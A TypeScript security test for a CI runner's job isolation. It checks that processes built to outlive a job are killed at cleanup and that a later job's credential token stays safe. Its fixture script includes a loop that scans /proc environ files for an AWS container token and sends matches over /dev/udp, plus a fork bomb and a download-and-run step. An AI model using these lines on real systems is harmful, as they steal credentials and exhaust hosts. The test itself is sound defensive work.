// Attacker: processes built to outlive the job (a zombie leader, a fork-and-exit hopper, a token thief, a
// bounded fork bomb) are all ended by cleanup, because the kernel ends the job's PID namespace.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { buildJobResponse, type JobResult } from '../harness/runner.js';
import { startWorld, isRoot, type World, DEPLOYER_ROLE } from './world.js';
import { openMailbox, peekJobStates, processesOf, waitForEndpoint, type Mailbox } from './attacker-helpers.js';
import { buildSurvivor, hasGcc, listenHeartbeats, type Heartbeats } from './sandbox-helpers.js';
import { tasksOfUid } from '../../src/isolation/uid-tasks.js';

const NOT_ROOT = isRoot
  ? hasGcc()
    ? false
    : 'needs gcc to build the survivor program'
  : 'needs root: isolation "users" creates job users, namespaces and nftables rules';
const response = (jobId: number) => buildJobResponse({ jobId, projectId: 5, projectPath: 'group/app', ref: 'main' });

describe('attacker: processes that try to outlive their job (isolation users, slots 1)', { skip: NOT_ROOT }, () => {
  let world: World;
  let mailbox: Mailbox;
  let beats: Heartbeats;
  let first: JobResult;
  let second: JobResult;
  let firstUid = 0;
  let firstEnded = 0;
  let duringFirst: number[] = [];
  let secondToken = '';

  before(async () => {
    world = await startWorld({ isolation: 'users', slots: 1, roles: DEPLOYER_ROLE });
    world.emu.addRole({ arn: world.roleArn('deployer'), trust: { principals: [world.emu.hostRoleArn] } });
    mailbox = await openMailbox();
    beats = await listenHeartbeats();
    mailbox.set('survivor', await readFile(await buildSurvivor(`${world.dir}/bin`)));
    // Job 1: leaves a zombie leader, a hopper, a thief that hunts the next job's token in every environ it can
    // read, and a bounded fork bomb of about 500 sleeping processes.
    const thief = `while :; do for f in /proc/[0-9]*/environ; do t=$(tr '\\0' '\\n' < $f 2>/dev/null | grep '^AWS_CONTAINER_AUTHORIZATION_TOKEN=') && echo "thief $t" > /dev/udp/127.0.0.1/$HB; done; echo "thief-alive" > /dev/udp/127.0.0.1/$HB; sleep 0.2; done`;
    first = await world.job({
      response: response(7601),
      variables: { JOBROLE_ROLE: 'deployer', MB: mailbox.url, HB: String(beats.port) },
      onStage: async (name, phase) => {
        if (name !== 'build_script' || phase !== 'end') return;
        const s = (await peekJobStates(world)).find((j) => j.jobId === 7601);
        firstUid = s?.user?.uid ?? 0;
        duringFirst = firstUid > 0 ? [...new Set((await tasksOfUid(firstUid)).map((t) => t.pid))] : [];
      },
      steps: {
        script: [
          'curl -sf "$MB/survivor" -o "$HOME/survivor" && chmod +x "$HOME/survivor"',
          '"$HOME/survivor" zombie-leader "$HB"',
          '"$HOME/survivor" hopper "$HB"',
          `setsid nohup bash -c '${thief.replace(/'/g, `'\\''`)}' >/dev/null 2>&1 &`,
          'bomb() { if [ $1 -gt 0 ]; then bomb $(($1-1)) & bomb $(($1-1)) & fi; exec sleep 600; }; (bomb 8 &) ; sleep 1',
          'sleep 0.5; echo started',
        ],
      },
    });
    firstEnded = Date.now();
    // Job 2 on the same slot: the thief, had it survived, would find its token.
    second = await world.job({
      response: response(7602),
      variables: { JOBROLE_ROLE: 'deployer' },
      onStage: async (name, phase) => {
        if (name === 'build_script' && phase === 'start') secondToken = (await waitForEndpoint(world, 7602)).token;
      },
      steps: {
        script: [
          'sleep 2',
          'aws_ok=$(curl -s -H "Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN" "$AWS_CONTAINER_CREDENTIALS_FULL_URI" | grep -c AccessKeyId); echo "second got credentials: $aws_ok"',
        ],
      },
    });
  });
  after(async () => {
    await beats?.close();
    await mailbox?.close();
    await world?.close();
  });

  test('the attack ran: both survivors heartbeated and the fork bomb multiplied while the job ran', () => {
    assert.equal(first.status, 'success', first.jobLog);
    assert.match(first.jobLog, /^started$/m);
    assert.ok(
      beats.times('zombie-leader').some((t) => t < firstEnded),
      'the zombie leader never heartbeated',
    );
    assert.ok(
      beats.times('hopper').some((t) => t < firstEnded),
      'the hopper never heartbeated',
    );
    const hopperPids = new Set(
      beats
        .messages()
        .filter((m) => m.text.startsWith('hopper '))
        .map((m) => m.text.split(' ')[1]),
    );
    assert.ok(hopperPids.size > 3, `the hopper did not hop (pids ${[...hopperPids].join(', ')})`);
    assert.ok(duringFirst.length > 200, `the fork bomb did not multiply: ${duringFirst.length} processes at the end of the stage`);
  });

  test('within 2 s of cleanup every heartbeat stopped, and no task of the job user is left', async () => {
    const cleanup = first.stages.filter((s) => s.name === 'cleanup');
    assert.ok(cleanup.length > 0 && cleanup.every((s) => s.exitCode === 0), first.runnerLog);
    const late = beats.after(firstEnded + 2000).filter((b) => b.tag === 'zombie-leader' || b.tag === 'hopper' || b.tag === 'thief-alive');
    assert.deepEqual(late, [], 'a survivor was still running more than 2 s after cleanup');
    assert.deepEqual(await tasksOfUid(firstUid), [], 'a task of the job user is left');
  });

  test('the next job on the slot ran, and the thief got nothing of it', async () => {
    assert.equal(second.status, 'success', second.jobLog);
    assert.match(second.jobLog, /^second got credentials: 1$/m);
    assert.ok(secondToken.length >= 32);
    const stolen = beats.messages().filter((m) => m.text.startsWith('thief ') && m.text.includes(secondToken));
    assert.deepEqual(stolen, [], "the thief read the next job's endpoint token");
    assert.deepEqual(beats.after(firstEnded + 2000), [], 'something of the first job heartbeated during the second');
    assert.deepEqual(await processesOf(firstUid), []);
  });
});
